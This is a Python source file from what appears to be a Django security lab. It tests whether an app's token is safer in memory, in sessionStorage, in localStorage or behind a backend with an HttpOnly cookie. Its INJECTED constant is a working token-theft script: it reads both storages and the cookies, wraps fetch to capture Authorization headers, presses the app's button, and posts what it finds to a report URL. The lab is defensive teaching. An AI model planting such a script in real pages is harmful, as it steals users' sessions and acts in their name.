"""where-the-page-keeps-it: a foreign script in an app’s page looks for the token, and presses the app’s button."""

import json
from collections.abc import Mapping
from typing import Any

from django.http import Http404, HttpRequest, HttpResponse, HttpResponseBase, JsonResponse

from authdemo.lab.in_browser import injected, reports
from authdemo.lab.in_browser.browser_experiment import BrowserExperiment, VariantOutcome, may_load, page
from authdemo.lab.in_browser.csrf_check import refused_by_csrf_check
from authdemo.lab.in_browser.trial_store import Trial
from authdemo.lab.model.excerpts import COOKIE_IS_HTTP_ONLY
from authdemo.lab.model.experiment import NO, YES, Answer
from authdemo.lab.model.variants import IN_A_COOKIE, JWT_DENYLIST, SESSIONS_REDIS, Variant

IN_MEMORY = Variant("jwt/in-memory", "jwt")
BEHIND = Variant("sessions/backend-for-frontend", "sessions")
IN_SESSION_STORAGE = Variant("jwt/in-session-storage", "jwt", mistake="It keeps the token in sessionStorage.")
IN_STORAGE = Variant("jwt/in-storage", "jwt", mistake="It keeps the token in localStorage, as many tutorials do.")
PLACES = {  # the page of each, and where it says that it keeps the token
    "memory": (IN_MEMORY, "in a variable of the script"),
    "backend": (BEHIND, "on the server, behind an HttpOnly cookie"),
    "session": (IN_SESSION_STORAGE, "in sessionStorage"),
    "local": (IN_STORAGE, "in localStorage"),
}
IN_PLAIN_SIGHT, GOES_BY = "lying there", "going by"  # how a script can come by a token
MOST_TRIED = 8  # words of a report
IT_DEPENDS = Answer("depends", "Depends on what the script wants")


class WhereThePageKeepsIt(BrowserExperiment):
    """Is a token in the page’s memory, or behind a backend, safer than one in localStorage?"""

    asks = "A foreign script runs in the page of an app. Does it matter where the app keeps its token?"
    variants = tuple(variant for variant, _ in PLACES.values())
    signs_in = (SESSIONS_REDIS, JWT_DENYLIST)
    apart = IN_A_COOKIE
    answers = (YES, NO, IT_DEPENDS)
    cookies = ("lab-id",)
    reports = dict.fromkeys(PLACES, reports.carried)
    seconds = 2
    why = (
        "What lies in storage is there for every script of the page. What is in a variable is not, but the page’s "
        "`fetch` can be replaced by one that reads along. Only what never comes into the page cannot leave it; and "
        "wherever it is, the app uses it when its button is pressed, by whomever."
    )
    rule = (
        "Keep tokens out of the page: a backend for the frontend and an HttpOnly cookie. Then keep foreign scripts out."
    )
    stops = (
        "A token in a worker, or an app that kept `fetch` before others came, is not read along with; the script can "
        "still have the app fetch a new one (OAuth 2.0 for Browser-Based Applications, 5.1). A Content-Security-Policy "
        "that lets no foreign script run stops all of it: see `xss-read`."
    )
    excerpts = (COOKIE_IS_HTTP_ONLY,)

    def opens(self, trial: Trial, request: HttpRequest) -> HttpResponse:
        frames = [(trial.at(place), kept) for place, (_, kept) in PLACES.items()]
        response = page(request, "open", trial, experiment=self, frames=frames, then=trial.end)
        trial.gives(response, "lab-id", trial.sign_ins["sessions/redis"].credential, httponly=True)
        return may_load(response, frame="'self'")

    def serves(self, trial: Trial, request: HttpRequest, what: str) -> HttpResponseBase:
        if what in PLACES:
            report = f"/attack/{trial.id}/report/{what}/"
            comment = INJECTED.replace("/what/", report).replace("/key/", key(trial, what))
            scripts = (app(trial, what), comment)
            return injected.victim(request, trial, scripts, guarded=False, kept=PLACES[what][1])
        place = what.removeprefix("act-")
        if place in PLACES and request.method == "POST":
            trial.notes(what, came=self.is_you(trial, request, place))
            return JsonResponse({"done": True})
        raise Http404

    def is_you(self, trial: Trial, request: HttpRequest, place: str) -> bool:
        """What the API makes of it. A backend asks for session and CSRF token first, and adds the token that it has."""
        token = request.headers.get("Authorization", "").removeprefix("Bearer ")
        if place == "backend":
            session = request.COOKIES.get("lab-id", "")
            known = trial.sign_ins["sessions/redis"].lets_in(session) and not refused_by_csrf_check(request)
            token = trial.sign_ins["jwt/denylist"].credential if known else ""
        return bool(token) and trial.sign_ins["jwt/denylist"].lets_in(token)

    def hears(self, trial: Trial, what: str, facts: Mapping[str, Any]) -> None:
        """Try once what was carried off, and note what it is good for: not the thing itself."""
        if not trial.first(f"report-{what}"):
            return
        good = {name: self.opens_a_door(trial, str(facts.get(name) or "")) for name in (IN_PLAIN_SIGHT, GOES_BY)}
        trial.notes(what, carried=good)

    def opens_a_door(self, trial: Trial, found: str) -> bool:
        return any(login.lets_in(part) for part in found.split()[:MOST_TRIED] for login in trial.sign_ins.values())

    def judges(
        self, trial: Trial, seen: Mapping[str, Mapping[str, Any]], outcomes: Mapping[str, VariantOutcome]
    ) -> None:
        for place, (variant, _) in PLACES.items():
            outcome = outcomes[variant.name]
            if place not in seen:
                outcome.failure = "Your browser runs no scripts, so none could look for anything."
                continue
            carried = seen[place]["carried"]
            lying, going_by = carried[IN_PLAIN_SIGHT], carried[GOES_BY]
            acted = bool(seen.get(f"act-{place}", {}).get("came"))
            found = "found, sent away, and good for signing in" if lying else "nothing that lets anybody in"
            outcome.tells("The script looks into both storages and the cookies.", found, accepted=lying)
            outcome.finds("C75", not lying, f"in storages and cookies: {found}")
            if not lying:
                read = "taken from the app’s own request" if going_by else "no token goes by"
                outcome.tells("It puts itself in the place of `fetch` and reads along.", read, accepted=going_by)
                outcome.finds("C75", not going_by, f"read along with `fetch`: {read}")
            did = "done in your name" if acted else "not done"
            outcome.tells("It presses the app’s button.", did, accepted=acted)
            outcome.finds("C75", not acted, f"the app’s button pressed by it: {did}")
            safe = not lying and not going_by
            outcome.concludes((IT_DEPENDS if safe and acted else YES if safe else NO).key)


def key(trial: Trial, place: str) -> str:
    """By what name this app keeps its token: the four are of one origin, so they share both storages."""
    return f"lab-{trial.id}-{place}"


def app(trial: Trial, place: str) -> str:
    """The app’s own script: it has a token and a button. Everything but the closing line is its own business."""
    token, name = json.dumps(trial.sign_ins["jwt/denylist"].credential), json.dumps(key(trial, place))
    keeps, headers = {
        "memory": (f"const token = {token};", "{ Authorization: `Bearer ${token}` }"),
        "session": (f"sessionStorage.setItem({name}, {token});", _from(f"sessionStorage.getItem({name})")),
        "local": (f"localStorage.setItem({name}, {token});", _from(f"localStorage.getItem({name})")),
        "backend": ("", '{ "X-CSRFToken": document.querySelector("input").value }'),
    }[place]
    return f"""{{
  {keeps}
  document.querySelector("button").addEventListener("click", () => {{
    fetch("{trial.path}at/act-{place}/", {{ method: "POST", headers: {headers} }});
  }});
}}"""


def _from(storage: str) -> str:
    return f"{{ Authorization: `Bearer ${{{storage}}}` }}"


INJECTED = """{
  const pairs = [
    ...Object.entries({ ...localStorage }),
    ...Object.entries({ ...sessionStorage }),
    ...document.cookie.split("; ").map((cookie) => cookie.split("=")),
  ];
  const mine = ([name]) => ["/key/", "lab-id"].includes(name);
  const lying = pairs.filter(mine).map(([, value]) => value).join(" ");
  const own = window.fetch;
  let goesBy = "";
  window.fetch = (address, request) => {
    goesBy = Object.values(request.headers).join(" ");
    return own(address, request);
  };
  document.querySelector("button").click();
  window.fetch = own;
  const token = (text) => (text.match(/eyJ[\\w-]{9}/) || ["no token"])[0];
  document.querySelector("output").textContent =
    `in storages and cookies: ${token(lying)}; going by: ${token(goesBy)}; pressed the button`;
  for (const storage of [localStorage, sessionStorage]) storage.removeItem("/key/");
  own("/what/", {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ "lying there": lying.slice(0, 3000), "going by": goesBy.slice(0, 3000) }),
  });
}"""
